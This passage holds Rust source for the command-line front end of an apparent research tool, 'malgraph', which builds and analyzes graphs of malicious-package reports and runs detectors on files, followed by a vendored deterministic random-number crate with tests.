        overlap::category_mean_overlap(&matrix, Academia, Academia),
        overlap::category_mean_overlap(&matrix, Industry, Industry)
    );

    let (_, overall_mr) = quality::missing_rates(&corpus);
    println!("-- overall missing rate: {overall_mr:.1}% (Table VI)");

    let sequences = evolution::release_sequences(&graph, &corpus);
    let dist = evolution::op_distribution(&sequences);
    println!(
        "-- ops over {} re-releases: CN {:.1}% CV {:.1}% CC {:.1}% (Fig. 12)",
        dist.attempts,
        dist.pct_of(ChangeOp::ChangeName),
        dist.pct_of(ChangeOp::ChangeVersion),
        dist.pct_of(ChangeOp::ChangeCode)
    );

    let attribution = actors::attribution_summary(&graph, &corpus);
    println!(
        "-- actor attribution: {}/{} CGs attributed, {} conflicting",
        attribution.attributed, attribution.groups, attribution.conflicting
    );
    drop(analyze_span);
    obs_finish(&opts);
    0
}

fn cmd_ingest(args: &[String]) -> i32 {
    let opts = parse_opts(Cmd::Ingest, args);
    obs_setup(&opts);
    let world = generate(&opts);
    let dataset = collect(&world);
    let plan = WindowPlan::disclosure_quantiles(&world, opts.windows);
    let deltas = malgraph::crawler::partition_windows(&dataset, &plan);
    let mut build_opts = BuildOptions::default();
    if let Some(threads) = opts.threads {
        build_opts.similarity.threads = threads;
    }
    println!(
        "ingesting {} windows (seed {}, scale {}: {} packages, {} reports)",
        deltas.len(),
        opts.seed,
        opts.scale,
        dataset.packages.len(),
        dataset.reports.len()
    );
    let (graph, state) = if let Some(dir) = &opts.checkpoint_dir {
        use malgraph::malgraph_core::{
            run_checkpointed_ingest, CheckpointOptions, CheckpointStore, IngestRunError, RunStamp,
        };
        use malgraph::oss_types::CrashPlan;
        let crash = match &opts.crash_at {
            Some(spec) => CrashPlan::parse(spec).unwrap_or_else(|e| die(&e.to_string())),
            None => CrashPlan::none(),
        };
        let store = CheckpointStore::open(std::path::Path::new(dir))
            .unwrap_or_else(|e| die(&format!("open checkpoint dir {dir}: {e}")));
        let stamp = RunStamp::new(opts.seed, opts.scale, deltas.len());
        match store.run_stamp() {
            Ok(Some(found)) if found != stamp => die(&format!(
                "checkpoint dir {dir} belongs to a different run \
                 (seed {} scale {} windows {}); this run is seed {} scale {} windows {}",
                found.seed,
                found.scale(),
                found.windows,
                opts.seed,
                opts.scale,
                deltas.len()
            )),
            Ok(_) => store
                .write_run_stamp(&stamp)
                .unwrap_or_else(|e| die(&format!("write run stamp: {e}"))),
            Err(e) => die(&format!("read run stamp: {e}")),
        }
        if let Some(generation) = store.generations().ok().and_then(|g| g.last().copied()) {
            println!("resuming from checkpoint generation {generation} in {dir}");
        }
        match run_checkpointed_ingest(
            &deltas,
            &build_opts,
            &store,
            &crash,
            &CheckpointOptions::default(),
        ) {
            Ok(pair) => pair,
            Err(IngestRunError::Crashed(signal)) => {
                eprintln!("simulated crash: {signal} (resume with the same --checkpoint-dir)");
                obs_finish(&opts);
                std::process::exit(3);
            }
            Err(IngestRunError::Store(e)) => die(&format!("checkpoint store: {e}")),
        }
    } else {
        if opts.crash_at.is_some() {
            die("--crash-at requires --checkpoint-dir (a crash without durability only loses work)");
        }
        let mut graph = MalGraph::empty();
        let mut state = IngestState::new();
        for delta in &deltas {
            let started = std::time::Instant::now();
            graph.apply_delta(delta, &build_opts, &mut state);
            println!(
                "window {:>2} ending {}: +{} packages, +{} reports → {} nodes, {} edges ({:.2}s)",
                delta.window,
                delta.end,
                delta.packages.len(),
                delta.reports.len(),
                graph.graph.node_count(),
                graph.graph.edge_count(),
                started.elapsed().as_secs_f64()
            );
        }
        (graph, state)
    };
    println!(
        "ingested {} windows: {} nodes, {} edges",
        state.windows_applied(),
        graph.graph.node_count(),
        graph.graph.edge_count()
    );
    println!("\n-- relation graphs after ingestion (Table II shape)");
    for row in diversity::table2(&graph) {
        println!(
            "{:<4} {:>6} nodes {:>9} edges (avg degree {:.2})",
            row.relation.group_label(),
            row.nodes,
            row.edges,
            row.avg_out_degree
        );
    }
    let mut code = 0;
    if opts.verify {
        let oracle = build(state.dataset(), &build_opts);
        let nodes_identical = graph.graph.node_count() == oracle.graph.node_count()
            && graph
                .graph
                .nodes()
                .zip(oracle.graph.nodes())
                .all(|((_, a), (_, b))| a == b);
        let edges_identical = graph.graph.edge_count() == oracle.graph.edge_count()
            && graph
                .graph
                .edges()
                .zip(oracle.graph.edges())
                .all(|(a, b)| a.from == b.from && a.to == b.to && a.label == b.label);
        if nodes_identical && edges_identical {
            println!("\nverify: incremental graph is identical to a one-shot build");
        } else {
            eprintln!("\nverify FAILED: incremental graph diverges from the one-shot build");
            code = 1;
        }
    }
    obs_finish(&opts);
    code
}

fn cmd_scan(args: &[String]) -> i32 {
    let opts = parse_opts(Cmd::Scan, args);
    let Some(path) = opts.positional.first() else {
        die("scan requires a file path");
    };
    obs_setup(&opts);
    let source =
        std::fs::read_to_string(path).unwrap_or_else(|e| die(&format!("read {path}: {e}")));
    let name = opts
        .positional
        .get(1)
        .map(|n| n.parse().unwrap_or_else(|_| die("bad package name")));

    let scan_span = obs::span!("scan");
    let sv = StaticDetector::default().scan_source(&source, name.as_ref());
    println!(
        "static : malicious={} score={:.1} rules={:?}",
        sv.malicious,
        sv.score,
        sv.matched.iter().map(|r| r.label()).collect::<Vec<_>>()
    );
    let dv = DynamicDetector::default().analyze_source(&source);
    println!(
        "sandbox: labels={:?}",
        dv.labels.iter().map(|l| l.to_string()).collect::<Vec<_>>()
    );
    println!("         apis={:?}", dv.apis);
    drop(scan_span);
    obs_finish(&opts);
    if sv.malicious || dv.malicious() {
        1
    } else {
        0
    }
}

/// Renders microseconds human-readably for the stats table.
fn fmt_micros(us: u64) -> String {
    if us >= 1_000_000 {
        format!("{:.2}s", us as f64 / 1e6)
    } else if us >= 1_000 {
        format!("{:.2}ms", us as f64 / 1e3)
    } else {
        format!("{us}µs")
    }
}

/// Renders byte counts human-readably for the stats table.
fn fmt_bytes(bytes: u64) -> String {
    if bytes >= 1 << 30 {
        format!("{:.2}GiB", bytes as f64 / (1u64 << 30) as f64)
    } else if bytes >= 1 << 20 {
        format!("{:.2}MiB", bytes as f64 / (1u64 << 20) as f64)
    } else if bytes >= 1 << 10 {
        format!("{:.2}KiB", bytes as f64 / 1024.0)
    } else {
        format!("{bytes}B")
    }
}

fn cmd_stats(args: &[String]) -> i32 {
    let opts = parse_opts(Cmd::Stats, args);
    let path = opts
        .positional
        .first()
        .map(String::as_str)
        .unwrap_or("malgraph-metrics.json");
    let json = std::fs::read_to_string(path).unwrap_or_else(|e| {
        die(&format!(
            "read {path}: {e} (produce one with `malgraph collect --out corpus.json \
             --metrics-out {path}`)"
        ))
    });
    let value = jsonio::Value::parse(&json).unwrap_or_else(|e| die(&format!("{path}: {e}")));
    let schema = value.get("schema").and_then(|v| v.as_str()).unwrap_or("");
    if schema != "malgraph-obs/1" && schema != "malgraph-obs/2" {
        die(&format!(
            "{path}: unsupported snapshot schema {schema:?} (expected \"malgraph-obs/1\" or \
             \"malgraph-obs/2\")"
        ));
    }
    println!("metrics snapshot {path} (schema {schema})");

    // Name-sort every section: the writer emits sorted JSON, but hand-
    // assembled or merged snapshots may not be, and the table must be
    // deterministic either way.
    let section = |key: &str| -> Vec<(String, jsonio::Value)> {
        let mut rows = value
            .get(key)
            .and_then(|v| v.as_object())
            .map(|entries| entries.to_vec())
            .unwrap_or_default();
        rows.sort_by(|a, b| a.0.cmp(&b.0));
        rows
    };

    let spans = section("spans");
    if !spans.is_empty() {
        // `/2` snapshots carry self-time and allocation columns.
        let profiled = spans.iter().any(|(_, e)| e.get("self_us").is_some());
        println!("\n-- stages (span rollups)");
        if profiled {
            println!(
                "{:<44} {:>7} {:>12} {:>12} {:>12} {:>8}",
                "span", "count", "total", "self", "alloc", "allocs"
            );
        } else {
            println!("{:<44} {:>7} {:>12}", "span", "count", "total");
        }
        for (name, entry) in &spans {
            let field = |k: &str| entry.get(k).and_then(|v| v.as_u64()).unwrap_or(0);
            if profiled {
                println!(
                    "{name:<44} {:>7} {:>12} {:>12} {:>12} {:>8}",
                    field("count"),
                    fmt_micros(field("total_us")),
                    fmt_micros(field("self_us")),
                    fmt_bytes(field("alloc_bytes")),
                    field("allocs")
                );
            } else {
                println!("{name:<44} {:>7} {:>12}", field("count"), fmt_micros(field("total_us")));
            }
        }
    }

    let counters = section("counters");
    if !counters.is_empty() {
        println!("\n-- counters");
        for (name, entry) in &counters {
            println!("{name:<44} {:>12}", entry.as_u64().unwrap_or(0));
        }
    }

    let gauges = section("gauges");
    if !gauges.is_empty() {
        println!("\n-- gauges");
        for (name, entry) in &gauges {
            println!("{name:<44} {:>12}", entry.as_f64().unwrap_or(0.0));
        }
    }

    let histograms = section("histograms");
    if !histograms.is_empty() {
        println!("\n-- histograms");
        println!("{:<44} {:>7} {:>10} {:>8} {:>8}", "histogram", "count", "sum", "min", "max");
        for (name, entry) in &histograms {
            let field = |k: &str| entry.get(k).and_then(|v| v.as_u64()).unwrap_or(0);
            println!(
                "{name:<44} {:>7} {:>10} {:>8} {:>8}",
                field("count"),
                field("sum"),
                field("min"),
                field("max")
            );
        }
    }

    let dropped = value.get("events_dropped").and_then(|v| v.as_u64()).unwrap_or(0);
    if dropped > 0 {
        println!("\n(events dropped past the retention cap: {dropped})");
    }
    0
}

fn cmd_perf(args: &[String]) -> i32 {
    let opts = parse_opts(Cmd::Perf, args);
    let [action, base_path, new_path] = opts.positional.as_slice() else {
        die("perf requires: perf diff <base.json> <new.json>");
    };
    if action != "diff" {
        die(&format!("unknown perf action {action:?} (expected \"diff\")"));
    }
    let mut thresholds = obs::baseline::Thresholds::default();
    if let Some(rel) = opts.threshold {
        thresholds.rel = rel;
    }
    if let Some(floor) = opts.floor_us {
        thresholds.floor_us = floor;
    }
    if let Some(floor) = opts.floor_count {
        thresholds.floor_count = floor;
    }
    let load = |path: &str| {
        let profile = obs::baseline::PerfProfile::from_file(std::path::Path::new(path))
            .unwrap_or_else(|e| die(&e));
        // An entry-less profile would diff as "no regressions" — a
        // silent zero, not a comparison. Refuse it up front.
        if profile.entries.is_empty() {
            die(&format!(
                "{path}: snapshot carries no metrics to compare (was it produced \
                 by a run with the registry enabled?)"
            ));
        }
        profile
    };
    let base = load(base_path);
    let new = load(new_path);
    let report = obs::baseline::diff(&base, &new, &thresholds);
    print!("{}", report.render(opts.all));
    if report.has_regressions() {
        1
    } else {
        0
    }
}
