//! `malgraph` — command-line front end for the reproduction.
//!
//! ```text
//! malgraph world   [--seed N] [--scale F]            # world statistics
//! malgraph collect [--seed N] [--scale F] --out P    # corpus → JSON
//!                  [--manifest-only] [--fault-rate F] [--retries N]
//!                  [--fault-seed N] [--threads N]
//! malgraph analyze --corpus P                        # JSON → MALGRAPH → summary
//! malgraph scan <file.pyl> [name]                    # detectors on one file
//! ```
//!
//! `collect` + `analyze` round-trip through the export format, the flow a
//! downstream lab would use with a published corpus. With `--fault-rate`
//! the collection runs through the unreliable transport — transient
//! faults at the given rate, bounded retry/backoff — and prints the
//! per-source health table.

use malgraph::crawler::{
    collect, collect_with, export_json, import_json, CollectOptions, CollectionHealth,
    ExportFidelity, FetchHealth,
};
use malgraph::detector::{DynamicDetector, StaticDetector};
use malgraph::malgraph_core::analysis::{actors, diversity, evolution, overlap, quality};
use malgraph::malgraph_core::{build, BuildOptions};
use malgraph::prelude::*;

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.first().map(String::as_str) {
        Some("world") => cmd_world(&args[1..]),
        Some("collect") => cmd_collect(&args[1..]),
        Some("analyze") => cmd_analyze(&args[1..]),
        Some("scan") => cmd_scan(&args[1..]),
        _ => {
            eprintln!(
                "usage: malgraph <world|collect|analyze|scan> …\n\
                 \n\
                 world   [--seed N] [--scale F]\n\
                 collect [--seed N] [--scale F] --out corpus.json [--manifest-only]\n\
                 \x20        [--fault-rate F] [--retries N] [--fault-seed N] [--threads N]\n\
                 analyze --corpus corpus.json\n\
                 scan <file.pyl> [package-name]"
            );
            std::process::exit(2);
        }
    }
}

struct CommonOpts {
    seed: u64,
    scale: f64,
    out: Option<String>,
    corpus: Option<String>,
    manifest_only: bool,
    fault_rate: Option<f64>,
    retries: Option<u32>,
    fault_seed: Option<u64>,
    threads: Option<usize>,
    positional: Vec<String>,
}

fn parse_opts(args: &[String]) -> CommonOpts {
    let mut opts = CommonOpts {
        seed: 42,
        scale: 0.05,
        out: None,
        corpus: None,
        manifest_only: false,
        fault_rate: None,
        retries: None,
        fault_seed: None,
        threads: None,
        positional: Vec::new(),
    };
    let mut it = args.iter();
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--seed" => opts.seed = next_parsed(&mut it, "--seed"),
            "--scale" => {
                let scale: f64 = next_parsed(&mut it, "--scale");
                if !scale.is_finite() || scale <= 0.0 || scale > 1.0 {
                    die("--scale must be a finite value in (0, 1]");
                }
                opts.scale = scale;
            }
            "--out" => opts.out = Some(next_str(&mut it, "--out")),
            "--corpus" => opts.corpus = Some(next_str(&mut it, "--corpus")),
            "--manifest-only" => opts.manifest_only = true,
            "--fault-rate" => {
                let rate: f64 = next_parsed(&mut it, "--fault-rate");
                if !rate.is_finite() || !(0.0..=1.0).contains(&rate) {
                    die("--fault-rate must be a finite value in [0, 1]");
                }
                opts.fault_rate = Some(rate);
            }
            "--retries" => opts.retries = Some(next_parsed(&mut it, "--retries")),
            "--fault-seed" => opts.fault_seed = Some(next_parsed(&mut it, "--fault-seed")),
            "--threads" => opts.threads = Some(next_parsed(&mut it, "--threads")),
            other if other.starts_with('-') => {
                die(&format!("unknown flag {other} (run `malgraph` with no arguments for usage)"))
            }
            other => opts.positional.push(other.to_string()),
        }
    }
    opts
}

fn next_str(it: &mut std::slice::Iter<'_, String>, flag: &str) -> String {
    it.next().unwrap_or_else(|| die(&format!("{flag} needs a value"))).clone()
}

fn next_parsed<T: std::str::FromStr>(it: &mut std::slice::Iter<'_, String>, flag: &str) -> T {
    next_str(it, flag)
        .parse()
        .unwrap_or_else(|_| die(&format!("{flag}: bad value")))
}

fn die(msg: &str) -> ! {
    eprintln!("error: {msg}");
    std::process::exit(2);
}

fn generate(opts: &CommonOpts) -> World {
    World::generate(
        WorldConfig {
            seed: opts.seed,
            ..WorldConfig::default()
        }
        .with_scale(opts.scale),
    )
}

fn cmd_world(args: &[String]) {
    let opts = parse_opts(args);
    let world = generate(&opts);
    println!("seed {} scale {}", opts.seed, opts.scale);
    println!("packages : {}", world.packages.len());
    println!("campaigns: {}", world.campaigns.len());
    for kind in [
        CampaignKind::Similar,
        CampaignKind::Flood,
        CampaignKind::Dependency,
        CampaignKind::Trojan,
    ] {
        let n = world.campaigns.iter().filter(|c| c.kind == kind).count();
        println!("  {:<11} {n}", kind.label());
    }
    println!("mentions : {}", world.mentions.len());
    println!("reports  : {} across {} websites", world.reports.len(), world.websites.len());
    println!("mirrors  : {}", world.mirrors.len());
}

fn cmd_collect(args: &[String]) {
    let opts = parse_opts(args);
    let Some(out) = &opts.out else {
        die("collect requires --out <path>");
    };
    let world = generate(&opts);
    let resilient = opts.fault_rate.is_some()
        || opts.retries.is_some()
        || opts.fault_seed.is_some()
        || opts.threads.is_some();
    let corpus = if resilient {
        use malgraph::oss_types::{FaultConfig, RetryPolicy};
        let mut collect_opts = CollectOptions {
            faults: FaultConfig::transient(opts.fault_rate.unwrap_or(0.0)),
            fault_seed: opts.fault_seed,
            threads: opts.threads.unwrap_or(0),
            ..CollectOptions::default()
        };
        if let Some(retries) = opts.retries {
            collect_opts.retry = RetryPolicy::with_retries(retries);
        }
        collect_with(&world, &collect_opts)
    } else {
        collect(&world)
    };
    let fidelity = if opts.manifest_only {
        ExportFidelity::ManifestOnly
    } else {
        ExportFidelity::Full
    };
    let json = export_json(&corpus, fidelity).unwrap_or_else(|e| die(&e.to_string()));
    std::fs::write(out, &json).unwrap_or_else(|e| die(&format!("write {out}: {e}")));
    println!(
        "wrote {out}: {} packages ({} available), {} reports, {} bytes",
        corpus.packages.len(),
        corpus.packages.iter().filter(|p| p.is_available()).count(),
        corpus.reports.len(),
        json.len()
    );
    if let Some(health) = &corpus.health {
        print_health(health);
    }
}

fn print_health(health: &CollectionHealth) {
    println!("\n-- collection health");
    println!(
        "{:<16} {:>6} {:>9} {:>8} {:>10} {:>8} {:>12}",
        "channel", "docs", "attempts", "retries", "recovered", "dropped", "backoff(ms)"
    );
    let row = |label: &str, h: &FetchHealth| {
        println!(
            "{:<16} {:>6} {:>9} {:>8} {:>10} {:>8} {:>12}",
            label,
            h.documents(),
            h.attempts,
            h.retries,
            h.recovered,
            h.dropped,
            h.backoff_ms
        );
    };
    for (source, h) in &health.sources {
        row(source.slug(), h);
    }
    row("mirror", &health.mirror);
    row("report-corpus", &health.report_corpus);
    row("total", &health.total());
}

fn cmd_analyze(args: &[String]) {
    let opts = parse_opts(args);
    let Some(path) = &opts.corpus else {
        die("analyze requires --corpus <path>");
    };
    let json = std::fs::read_to_string(path).unwrap_or_else(|e| die(&format!("read {path}: {e}")));
    let corpus = import_json(&json).unwrap_or_else(|e| die(&e.to_string()));
    println!(
        "imported {} packages / {} reports (collected {})",
        corpus.packages.len(),
        corpus.reports.len(),
        corpus.collect_time
    );
    let graph = build(&corpus, &BuildOptions::default());

    println!("\n-- relation graphs (Table II shape)");
    for row in diversity::table2(&graph) {
        println!(
            "{:<4} {:>6} nodes {:>9} edges (avg degree {:.2})",
            row.relation.group_label(),
            row.nodes,
            row.edges,
            row.avg_out_degree
        );
    }

    println!("\n-- diversity (Table VII shape)");
    for row in diversity::table7(&graph) {
        println!(
            "{:<9} SG {:>3} ({:>6.1})  DeG {:>2} ({:.1})  CG {:>3} ({:.1})",
            row.ecosystem.display_name(),
            row.sg.groups,
            row.sg.avg_size,
            row.deg.groups,
            row.deg.avg_size,
            row.cg.groups,
            row.cg.avg_size
        );
    }

    let matrix = overlap::overlap_matrix(&corpus);
    use malgraph::oss_types::SourceCategory::{Academia, Industry};
    println!(
        "\n-- overlap: academia↔academia {:.1}, industry↔industry {:.1} (Table IV shape)",
        overlap::category_mean_overlap(&matrix, Academia, Academia),
        overlap::category_mean_overlap(&matrix, Industry, Industry)
    );

    let (_, overall_mr) = quality::missing_rates(&corpus);
    println!("-- overall missing rate: {overall_mr:.1}% (Table VI)");

    let sequences = evolution::release_sequences(&graph, &corpus);
    let dist = evolution::op_distribution(&sequences);
    println!(
        "-- ops over {} re-releases: CN {:.1}% CV {:.1}% CC {:.1}% (Fig. 12)",
        dist.attempts,
        dist.pct_of(ChangeOp::ChangeName),
        dist.pct_of(ChangeOp::ChangeVersion),
        dist.pct_of(ChangeOp::ChangeCode)
    );

    let attribution = actors::attribution_summary(&graph, &corpus);
    println!(
        "-- actor attribution: {}/{} CGs attributed, {} conflicting",
        attribution.attributed, attribution.groups, attribution.conflicting
    );
}

fn cmd_scan(args: &[String]) {
    let opts = parse_opts(args);
    let Some(path) = opts.positional.first() else {
        die("scan requires a file path");
    };
    let source =
        std::fs::read_to_string(path).unwrap_or_else(|e| die(&format!("read {path}: {e}")));
    let name = opts
        .positional
        .get(1)
        .map(|n| n.parse().unwrap_or_else(|_| die("bad package name")));

    let sv = StaticDetector::default().scan_source(&source, name.as_ref());
    println!(
        "static : malicious={} score={:.1} rules={:?}",
        sv.malicious,
        sv.score,
        sv.matched.iter().map(|r| r.label()).collect::<Vec<_>>()
    );
    let dv = DynamicDetector::default().analyze_source(&source);
    println!(
        "sandbox: labels={:?}",
        dv.labels.iter().map(|l| l.to_string()).collect::<Vec<_>>()
    );
    println!("         apis={:?}", dv.apis);
    if sv.malicious || dv.malicious() {
        std::process::exit(1);
    }
}
