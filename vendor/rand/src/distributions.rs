//! Distribution trait (the `rand_distr` companion crate builds on this).

use crate::RngCore;

/// Types that can generate samples of `T`.
pub trait Distribution<T> {
    /// Draws one sample.
    fn sample<R: RngCore>(&self, rng: &mut R) -> T;
}
