//! Concrete generators.

use crate::{RngCore, SeedableRng};

/// The workspace's standard deterministic generator: xoshiro256++
/// (Blackman & Vigna 2019), seeded via SplitMix64.
///
/// Not stream-compatible with upstream `rand`'s ChaCha12 `StdRng`; see the
/// crate docs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StdRng {
    s: [u64; 4],
}

impl StdRng {
    #[inline]
    fn rotl(x: u64, k: u32) -> u64 {
        x.rotate_left(k)
    }
}

impl RngCore for StdRng {
    #[inline]
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }

    #[inline]
    fn next_u64(&mut self) -> u64 {
        let result = Self::rotl(self.s[0].wrapping_add(self.s[3]), 23).wrapping_add(self.s[0]);
        let t = self.s[1] << 17;
        self.s[2] ^= self.s[0];
        self.s[3] ^= self.s[1];
        self.s[1] ^= self.s[2];
        self.s[0] ^= self.s[3];
        self.s[2] ^= t;
        self.s[3] = Self::rotl(self.s[3], 45);
        result
    }
}

impl SeedableRng for StdRng {
    type Seed = [u8; 32];

    fn from_seed(seed: Self::Seed) -> Self {
        let mut s = [0u64; 4];
        for (i, chunk) in seed.chunks_exact(8).enumerate() {
            s[i] = u64::from_le_bytes(chunk.try_into().expect("8-byte chunk"));
        }
        // The all-zero state is a fixed point of xoshiro; nudge it.
        if s == [0, 0, 0, 0] {
            s = [
                0x9e3779b97f4a7c15,
                0x6a09e667f3bcc909,
                0xbb67ae8584caa73b,
                0x3c6ef372fe94f82b,
            ];
        }
        StdRng { s }
    }
}

/// Alias: the small generator is the same xoshiro core here.
pub type SmallRng = StdRng;
