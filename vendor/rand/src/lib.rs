//! Offline stand-in for the `rand` crate (0.8 API subset).
//!
//! The build container has no crates-io access, so the workspace vendors
//! the exact surface it uses: [`Rng`] (`gen`, `gen_range`, `gen_bool`),
//! [`SeedableRng::seed_from_u64`], [`rngs::StdRng`] and
//! [`seq::SliceRandom::choose`]. The generator behind `StdRng` is
//! xoshiro256++ seeded through SplitMix64 — deterministic, fast and
//! statistically solid, but **not** stream-compatible with upstream
//! `rand`'s ChaCha12-based `StdRng`: seeded runs reproduce within this
//! repo, not across implementations.

#![forbid(unsafe_code)]

pub mod distributions;
pub mod rngs;
pub mod seq;

/// Low-level uniform bit source.
pub trait RngCore {
    /// Next 32 random bits.
    fn next_u32(&mut self) -> u32;
    /// Next 64 random bits.
    fn next_u64(&mut self) -> u64;
    /// Fills `dest` with random bytes.
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        let mut chunks = dest.chunks_exact_mut(8);
        for chunk in &mut chunks {
            chunk.copy_from_slice(&self.next_u64().to_le_bytes());
        }
        let rem = chunks.into_remainder();
        if !rem.is_empty() {
            let bytes = self.next_u64().to_le_bytes();
            rem.copy_from_slice(&bytes[..rem.len()]);
        }
    }
}

impl<R: RngCore + ?Sized> RngCore for &mut R {
    fn next_u32(&mut self) -> u32 {
        (**self).next_u32()
    }
    fn next_u64(&mut self) -> u64 {
        (**self).next_u64()
    }
}

/// User-facing sampling methods, blanket-implemented for every [`RngCore`].
pub trait Rng: RngCore {
    /// Samples a value of a standard-distributed type (`f64` in `[0,1)`,
    /// full-range integers, fair `bool`).
    fn gen<T: Standard>(&mut self) -> T
    where
        Self: Sized,
    {
        T::sample_standard(self)
    }

    /// Samples uniformly from `range` (`a..b` or `a..=b`).
    ///
    /// # Panics
    ///
    /// Panics if the range is empty.
    fn gen_range<T, R>(&mut self, range: R) -> T
    where
        Self: Sized,
        R: SampleRange<T>,
    {
        range.sample_from(self)
    }

    /// Returns `true` with probability `p`.
    ///
    /// # Panics
    ///
    /// Panics if `p` is not in `[0, 1]`.
    fn gen_bool(&mut self, p: f64) -> bool
    where
        Self: Sized,
    {
        assert!((0.0..=1.0).contains(&p), "gen_bool p out of range: {p}");
        f64::sample_standard(self) < p
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

/// Deterministic construction from seeds.
pub trait SeedableRng: Sized {
    /// Raw seed type.
    type Seed: AsMut<[u8]> + Default;

    /// Builds the generator from a raw seed.
    fn from_seed(seed: Self::Seed) -> Self;

    /// Builds the generator from a `u64`, expanding it with SplitMix64
    /// exactly like upstream `rand`'s default implementation.
    fn seed_from_u64(mut state: u64) -> Self {
        let mut seed = Self::Seed::default();
        for chunk in seed.as_mut().chunks_mut(8) {
            // SplitMix64 (Steele, Lea & Flood 2014).
            state = state.wrapping_add(0x9e3779b97f4a7c15);
            let mut z = state;
            z = (z ^ (z >> 30)).wrapping_mul(0xbf58476d1ce4e5b9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94d049bb133111eb);
            z ^= z >> 31;
            let bytes = z.to_le_bytes();
            chunk.copy_from_slice(&bytes[..chunk.len()]);
        }
        Self::from_seed(seed)
    }
}

/// Marker for types `Rng::gen` can produce.
pub trait Standard {
    /// Samples one value.
    fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

impl Standard for f64 {
    fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        // 53 uniform bits in [0, 1).
        (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

impl Standard for f32 {
    fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        (rng.next_u32() >> 8) as f32 * (1.0 / (1u32 << 24) as f32)
    }
}

macro_rules! impl_standard_int {
    ($($t:ty),*) => {$(
        impl Standard for $t {
            fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self {
                rng.next_u64() as $t
            }
        }
    )*};
}
impl_standard_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Standard for bool {
    fn sample_standard<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() & 1 == 1
    }
}

/// Ranges `Rng::gen_range` accepts.
pub trait SampleRange<T> {
    /// Samples uniformly from the range.
    fn sample_from<R: RngCore>(self, rng: &mut R) -> T;
}

/// Element types `gen_range` can sample. Blanket `SampleRange` impls
/// over this trait (rather than per-type range impls) let inference
/// unify the element type with surrounding expressions before integer /
/// float literal fallback, matching upstream `rand`.
pub trait SampleUniform: Copy + PartialOrd {
    /// Uniform draw from `[low, high)` or `[low, high]`.
    fn sample_in<R: RngCore>(rng: &mut R, low: Self, high: Self, inclusive: bool) -> Self;
}

impl<T: SampleUniform> SampleRange<T> for core::ops::Range<T> {
    fn sample_from<R: RngCore>(self, rng: &mut R) -> T {
        assert!(self.start < self.end, "cannot sample empty range");
        T::sample_in(rng, self.start, self.end, false)
    }
}

impl<T: SampleUniform> SampleRange<T> for core::ops::RangeInclusive<T> {
    fn sample_from<R: RngCore>(self, rng: &mut R) -> T {
        let (start, end) = (*self.start(), *self.end());
        assert!(start <= end, "cannot sample empty range");
        T::sample_in(rng, start, end, true)
    }
}

/// Uniform `u64` below `bound` by Lemire's widening-multiply rejection.
fn uniform_below<R: RngCore + ?Sized>(rng: &mut R, bound: u64) -> u64 {
    debug_assert!(bound > 0);
    loop {
        let x = rng.next_u64();
        let m = (x as u128).wrapping_mul(bound as u128);
        let low = m as u64;
        if low >= bound.wrapping_neg() % bound {
            return (m >> 64) as u64;
        }
        // Rejected sample in the biased zone: draw again.
    }
}

macro_rules! impl_uniform_int {
    ($($t:ty => $wide:ty),*) => {$(
        impl SampleUniform for $t {
            fn sample_in<R: RngCore>(rng: &mut R, low: $t, high: $t, inclusive: bool) -> $t {
                let span = (high as $wide).wrapping_sub(low as $wide) as u64;
                if inclusive {
                    if span == u64::MAX {
                        return rng.next_u64() as $t;
                    }
                    low.wrapping_add(uniform_below(rng, span + 1) as $t)
                } else {
                    low.wrapping_add(uniform_below(rng, span) as $t)
                }
            }
        }
    )*};
}
impl_uniform_int!(
    u8 => u64, u16 => u64, u32 => u64, u64 => u64, usize => u64,
    i8 => i64, i16 => i64, i32 => i64, i64 => i64, isize => i64
);

macro_rules! impl_uniform_float {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn sample_in<R: RngCore>(rng: &mut R, low: $t, high: $t, _inclusive: bool) -> $t {
                let unit = <$t as Standard>::sample_standard(rng);
                low + unit * (high - low)
            }
        }
    )*};
}
impl_uniform_float!(f32, f64);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rngs::StdRng;

    #[test]
    fn deterministic_per_seed() {
        let mut a = StdRng::seed_from_u64(7);
        let mut b = StdRng::seed_from_u64(7);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn different_seeds_differ() {
        let mut a = StdRng::seed_from_u64(1);
        let mut b = StdRng::seed_from_u64(2);
        assert_ne!(
            (0..8).map(|_| a.next_u64()).collect::<Vec<_>>(),
            (0..8).map(|_| b.next_u64()).collect::<Vec<_>>()
        );
    }

    #[test]
    fn gen_range_stays_in_bounds() {
        let mut rng = StdRng::seed_from_u64(3);
        for _ in 0..1000 {
            let v = rng.gen_range(10usize..20);
            assert!((10..20).contains(&v));
            let f = rng.gen_range(-2.0f32..2.0);
            assert!((-2.0..2.0).contains(&f));
            let i = rng.gen_range(-5i64..=5);
            assert!((-5..=5).contains(&i));
        }
    }

    #[test]
    fn gen_range_is_roughly_uniform() {
        let mut rng = StdRng::seed_from_u64(4);
        let mut counts = [0usize; 10];
        for _ in 0..10_000 {
            counts[rng.gen_range(0usize..10)] += 1;
        }
        assert!(counts.iter().all(|&c| (800..1200).contains(&c)), "{counts:?}");
    }

    #[test]
    fn gen_bool_matches_probability() {
        let mut rng = StdRng::seed_from_u64(5);
        let hits = (0..10_000).filter(|_| rng.gen_bool(0.25)).count();
        assert!((2200..2800).contains(&hits), "{hits}");
        assert!((0..100).all(|_| !rng.gen_bool(0.0)));
        assert!((0..100).all(|_| rng.gen_bool(1.0)));
    }

    #[test]
    fn unit_floats_are_in_range() {
        let mut rng = StdRng::seed_from_u64(6);
        for _ in 0..1000 {
            let x: f64 = rng.gen();
